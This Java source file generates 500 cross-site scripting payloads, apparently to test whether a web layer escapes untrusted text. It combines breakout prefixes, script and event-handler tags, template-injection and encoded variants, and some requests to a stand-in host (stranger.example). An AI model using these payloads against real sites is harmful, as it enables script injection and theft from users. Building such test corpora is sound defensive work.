package redress.web;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/**
 * Texts that would run if a page took them for anything but text: ways out of where a text stands, things that run
 * something, and what they run, combined. Ours; nothing is copied from a list.
 */
final class Payloads {
  static final int MANY = 500;

  /** What is run; each would be noticed: a box, a mark on the window, a request to a stranger. */
  private static final List<String> DEEDS = List.of("alert(1)", "window.ran=1", "prompt(1)", "print()", "alert`1`",
      "self['ale'+'rt'](1)", "fetch('//stranger.example/')", "eval(atob('d2luZG93LnJhbj0x'))",
      "top.ran=1", "setTimeout('ran=1')", "new Function('ran=1')()");

  /** Ways out of an attribute, an element whose content is text, a comment, a script. */
  private static final List<String> WAYS_OUT = List.of("", "\">", "'>", "`>", "</textarea>", "</title>", "</script>",
      "-->", "]]>", "</style>", "</select></option>", "\" ", "' ", "</p></section>", "<!--><", "\"]}</script>");

  /** What runs something where tags are read. {@code *} stands for the deed. */
  private static final List<String> TAGS = List.of("<script>*</script>", "<ScRiPt >*</sCrIpT>",
      "<script src=//stranger.example/a.js></script>", "<img src=x onerror=*>", "<img/src/onerror=*>",
      "<IMG\tSRC=x\nONERROR=\"*\">", "<svg onload=*>", "<svg><script>*</script></svg>",
      "<svg><animate onbegin=* attributeName=x dur=1s>", "<svg><a xlink:href=\"javascript:*\"><text>go</text></a>",
      "<body onload=*>", "<iframe src=\"javascript:*\"></iframe>", "<iframe srcdoc=\"<script>parent.*</script>\">",
      "<object data=\"javascript:*\"></object>", "<embed src=\"javascript:*\">",
      "<a href=\"javascript:*\" autofocus onfocus=*>go</a>", "<input autofocus onfocus=*>",
      "<details open ontoggle=*>", "<video><source onerror=*></video>", "<audio src=x onerror=*>",
      "<form action=\"javascript:*\"><button autofocus>go</button>", "<base href=//stranger.example/>",
      "<meta http-equiv=refresh content=\"0;url=javascript:*\">", "<link rel=stylesheet href=//stranger.example/a.css>",
      "<style>@import '//stranger.example/a.css';</style>", "<b style=\"background:url(//stranger.example/a)\">",
      "<b hx-get=//stranger.example/ hx-trigger=load>", "<b hx-on::load=\"*\" hx-trigger=load>",
      "<button hx-vals=\"js:{a:*}\" hx-post=/out hx-trigger=load>", "<math><mtext><img src=x onerror=*></mtext></math>",
      "<template><img src=x onerror=*></template>", "<noscript><p title=\"</noscript><img src=x onerror=*>\">");

  /** What runs something where an address, a script or a template is read, or after being decoded once too often. */
  private static final List<String> TEXTS = List.of("javascript:*", "java\tscript:*",
      "data:text/html,<script>*</script>", "${*}", "{{constructor.constructor('*')()}}",
      "#{*}", "<%= * %>", "@{*}", "';*;//", "\";*;//", "`;*;//", "\\';*;//",
      "\\u003cscript\\u003e*\\u003c/script\\u003e", "&lt;script&gt;*&lt;/script&gt;", "&#60;img src=x onerror=*&#62;",
      "%3Cscript%3E*%3C/script%3E", "\uFF1Cscript\uFF1E*\uFF1C/script\uFF1E", "\u202E<script>*</script>",
      "<scr\u200Bipt>*</scr\u200Bipt>", "\" onmouseover=\"*\" x=\"", "' onfocus='*' autofocus x='", "@if(*)@endif",
      "!{*;}", "$unsafe{*}");

  private Payloads() {}

  /** Five hundred of them, each its own, the same in every run. */
  static List<String> all() {
    var out = IntStream.range(0, TAGS.size() * WAYS_OUT.size())
        .mapToObj(i -> WAYS_OUT.get(i / TAGS.size()) + TAGS.get(i % TAGS.size()));
    var both = Stream.concat(TEXTS.stream(), out).toList();
    return IntStream.range(0, MANY)
        .mapToObj(i -> both.get(i % both.size()).replace("*", DEEDS.get((i + i / both.size()) % DEEDS.size())))
        .toList();
  }

  /** All of them in as few texts of at most {@code longest} characters as they fit into, one per line. */
  static List<String> packed(int longest) {
    var texts = new ArrayList<String>();
    var text = new StringBuilder();
    for (var payload : all()) {
      if (text.length() + payload.length() + 1 > longest) {
        texts.add(text.toString());
        text.setLength(0);
      }
      if (!text.isEmpty()) text.append('\n');
      text.append(payload);
    }
    texts.add(text.toString());
    return List.copyOf(texts);
  }
}
